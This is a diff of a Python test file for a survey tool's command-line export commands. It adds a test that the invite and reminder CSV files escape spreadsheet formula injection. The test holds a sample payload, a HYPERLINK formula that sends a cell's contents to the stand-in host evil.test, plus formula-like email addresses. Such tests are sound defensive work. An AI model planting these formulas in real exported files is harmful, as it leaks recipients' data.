@@ -99,7 +99,7 @@ def test_the_collector_commands_work_end_to_end(engine, db_url, tmp_path, capsys
                "--key", "b2", "--min-group", "2") == 2  # fmt: skip
     assert "never below 3" in capsys.readouterr().err
     assert run("invite", "--wave", "b1", "--out", str(tmp_path / "links.csv"), "--base-url", "https://x.test") == 0
-    links = list(csv.DictReader((tmp_path / "links.csv").open()))
+    links = list(csv.DictReader((tmp_path / "links.csv").open(encoding="utf-8-sig")))
     assert [(r["email"], r["team"]) for r in links] == [
         ("a@example.org", "Alpha Sales"),
         ("b@example.org", "Beta Service"),
@@ -115,4 +115,31 @@ def test_the_collector_commands_work_end_to_end(engine, db_url, tmp_path, capsys
     assert run("export", "responses", "--wave", "b1", "--out", str(tmp_path / "out.xlsx")) == 0
     assert load_workbook(tmp_path / "out.xlsx").active.max_row == 2
     assert run("remind", "--wave", "b1", "--out", str(tmp_path / "remind.csv")) == 0
-    assert len(list(csv.DictReader((tmp_path / "remind.csv").open()))) == 2
+    assert len(list(csv.DictReader((tmp_path / "remind.csv").open(encoding="utf-8-sig")))) == 2
+
+
+HYPERLINK = '=HYPERLINK("http://evil.test/leak?"&C2,"Open survey")'
+
+
+def test_links_files_from_invite_and_remind_neutralise_team_names_and_emails(engine, db_url, tmp_path):
+    document = plan_document().model_dump(mode="json")
+    document["teams"][0]["name"] = HYPERLINK
+    with unit_of_work(engine) as session:
+        from ldcore.schemas import PlanDocument
+        from ldcore.services import plans
+
+        plans.import_plan(session, document=PlanDocument.model_validate(document))
+    (tmp_path / "roster.csv").write_text("email,name,team\n=1+1@example.org,A,alpha\n-b@example.org,B,beta\n")
+    run = lambda *args: main(["--database", db_url, *args])  # noqa: E731
+    assert run("roster", "import", str(tmp_path / "roster.csv")) == 0
+    assert run("wave", "create", "--plan", "p1", "--survey", "capability_baseline", "--kind", "baseline",
+               "--key", "b1", "--min-group", "3") == 0  # fmt: skip
+    assert run("invite", "--wave", "b1", "--out", str(tmp_path / "links.csv"), "--base-url", "https://x.test") == 0
+    assert run("remind", "--wave", "b1", "--out", str(tmp_path / "remind.csv")) == 0
+    for name in ("links.csv", "remind.csv"):
+        rows = list(csv.reader((tmp_path / name).open(encoding="utf-8-sig")))
+        assert rows[0] == ["email", "team", "link"]
+        assert sorted((r[0], r[1]) for r in rows[1:]) == [
+            ("'-b@example.org", "Beta Service"),
+            ("'=1+1@example.org", "'" + HYPERLINK),
+        ]
